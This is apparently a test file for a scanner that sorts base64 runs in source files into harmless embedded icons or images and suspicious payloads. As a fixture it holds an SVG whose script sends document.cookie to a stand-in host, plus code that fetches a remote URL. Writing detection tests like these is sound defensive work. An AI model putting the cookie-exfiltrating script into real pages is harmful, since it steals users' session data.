"""Base64 runs: an embedded icon or font is listed, a run that decodes to anything else (code,
instructions, an SVG carrying a script) stays a warning for the reviewer."""

from __future__ import annotations

import base64

from chimera_cards._scan.base64runs import encodes_media
from chimera_cards._scan.hidden import scan_hidden

ICON = (
    '<svg id="uuid-fca9" xmlns="http://www.w3.org/2000/svg" width="18" height="18" '
    'viewBox="0 0 18 18"><path d="M9 0a9 9 0 1 0 9 9A9 9 0 0 0 9 0z" fill="#0078d4"/>'
    * 4
    + "</svg>"
)


def _b64(text: str | bytes) -> str:
    raw = text.encode() if isinstance(text, str) else text
    return base64.b64encode(raw).decode()


def _base64_severities(run: str) -> set[str]:
    text = f'ICONS = {{\n    "app-service": "data:image/svg+xml;base64,{run}",\n}}\n'
    return {f.severity for f in scan_hidden(text) if f.rule == "base64-blob"}


def test_an_embedded_svg_icon_is_listed_not_flagged():
    assert encodes_media(_b64(ICON))
    assert _base64_severities(_b64(ICON)) == {"info"}


def test_a_png_is_media():
    assert encodes_media(_b64(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2))


def test_base64_of_code_or_of_an_svg_with_a_script_stays_a_warning():
    code = "import os, urllib.request\n" * 12 + "urllib.request.urlopen('https://c.example/x')\n"
    scripted = ICON.replace(
        "</svg>", "<script>fetch('https://c.example/'+document.cookie)</script></svg>"
    )
    for run in (_b64(code), _b64(scripted)):
        assert not encodes_media(run)
        assert _base64_severities(run) == {"warning"}
